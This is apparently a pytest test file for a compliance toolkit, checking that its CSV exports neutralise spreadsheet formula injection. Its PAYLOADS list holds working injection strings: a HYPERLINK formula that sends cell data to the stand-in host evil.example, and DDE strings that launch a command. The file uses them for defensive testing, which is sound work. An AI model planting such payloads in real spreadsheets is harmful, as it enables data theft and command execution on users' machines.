"""Spreadsheet-safe output: formula payloads come out inert in every CSV aimskit writes."""

from __future__ import annotations

import csv
import io
import shutil

import pandas as pd
import pytest

from aimskit import engagement
from aimskit.base import resources, spreadsheet
from aimskit.steps import audit as audit_step
from aimskit.steps import risk as risk_step
from aimskit.steps.risk import view as risk_view

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised(payload):
    assert spreadsheet.dangerous(payload)
    assert spreadsheet.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-2", "-0.5", "+3", "1e-3", "-1.5E+2", -2, -0.25, 3, None, "plain text", "", "a=b"])
def test_numbers_and_plain_text_are_untouched(value):
    assert spreadsheet.safe_cell(value) == value


def test_safe_frame_keeps_numeric_columns():
    df = pd.DataFrame({"score": [-2, 4, -16], "delta": ["-2", "-2+3", "+1.5"], "owner": ["=cmd", "ok", "@x"]})
    out = spreadsheet.safe_frame(df)
    assert out["score"].tolist() == [-2, 4, -16]
    assert out["delta"].tolist() == ["-2", "'-2+3", "+1.5"]
    assert out["owner"].tolist() == ["'=cmd", "ok", "'@x"]
    assert df["owner"].tolist() == ["=cmd", "ok", "@x"]  # the input is not modified


def test_cell_text():
    import datetime as dt

    assert spreadsheet.cell_text(3.0) == "3"
    assert spreadsheet.cell_text(1.1) == "1.1"
    assert spreadsheet.cell_text(True) == "yes"
    assert spreadsheet.cell_text(dt.datetime(2026, 1, 2)) == "2026-01-02"
    assert spreadsheet.cell_text(None) == ""


def _poisoned_example(tmp_path):
    folder = tmp_path / "eng"
    shutil.copytree(resources.example_engagement(), folder)
    for name in ("soa.csv", "risks.csv", "gap.csv"):
        path = folder / name
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        header_at = next(i for i, r in enumerate(rows) if r and not r[0].startswith("#"))
        header = rows[header_at]
        for row in rows[header_at + 1 :]:
            if not row or row[0].startswith("#"):
                continue
            for col in ("owner", "justification_text", "title", "description"):
                if col in header:
                    row[header.index(col)] = PAYLOADS[0] if col == "owner" else PAYLOADS[1]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")
    return folder


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_inert(cells):
    bad = [c for c in cells if spreadsheet.dangerous(c)]
    assert not bad, bad


def test_handover_csvs_are_inert(tmp_path):
    folder = _poisoned_example(tmp_path)
    assert not [p for p in engagement.validate(folder) if p.severity == "error"]
    eng = engagement.load(folder, parts=risk_step.STEP.needs)
    result = risk_step.assess(eng)
    names = risk_view.handover(result, tmp_path / "out")
    cells = []
    for name in names.values():
        cells += _cells((tmp_path / "out" / name).read_text(encoding="utf-8"))
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    _assert_inert(cells)
    # negative or numeric scores are numbers, not text with an apostrophe
    assert not [c for c in cells if c.startswith("'") and spreadsheet.is_number_text(c[1:])]


def test_audit_checklist_is_inert(tmp_path):
    df = pd.DataFrame(
        [
            {
                **{c: "" for c in audit_step.CHECKLIST_COLUMNS},
                "auditee": PAYLOADS[0],
                "questions": [PAYLOADS[1]],
                "auditor_notes": "-2",
                "group_id": "A.2",
            }
        ]
    )
    text = audit_step.checklist_csv(df)
    cells = _cells(text)
    assert "'" + PAYLOADS[0] in cells
    assert "-2" in cells
    _assert_inert(cells)


def test_catalog_csv_exports_are_inert():
    from click.testing import CliRunner

    from aimskit.ui.cli import cli

    res = CliRunner().invoke(
        cli, ["catalog", "crosswalk", "iso42001", "nist-ai-rmf", "=HYPERLINK(1)", "--format", "csv"]
    )
    _assert_inert(_cells(res.output))
    res = CliRunner().invoke(cli, ["catalog", "iso42001", "--format", "csv"])
    assert res.exit_code == 0
    _assert_inert(_cells(res.output))
